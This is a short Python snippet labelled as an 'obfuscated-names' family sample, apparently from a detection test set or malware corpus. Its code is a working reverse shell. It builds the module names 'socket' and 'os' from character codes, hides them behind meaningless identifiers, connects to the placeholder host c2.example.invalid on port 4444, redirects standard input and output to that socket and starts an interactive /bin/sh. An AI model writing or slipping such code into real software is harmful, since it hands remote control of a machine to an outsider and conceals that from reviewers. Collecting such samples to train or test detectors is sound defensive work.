# family: obfuscated-names
# meaningless identifiers and a character table hide socket + process use
O0O0 = __import__
lIlI = "".join(map(chr, [115, 111, 99, 107, 101, 116]))
IlIl = "".join(map(chr, [111, 115]))
_0x1 = O0O0(lIlI).socket()
_0x1.connect(("c2.example.invalid", 4444))
O0O0(IlIl).dup2(_0x1.fileno(), 0)
O0O0(IlIl).dup2(_0x1.fileno(), 1)
O0O0(IlIl).execv("/bin/sh", ["sh", "-i"])
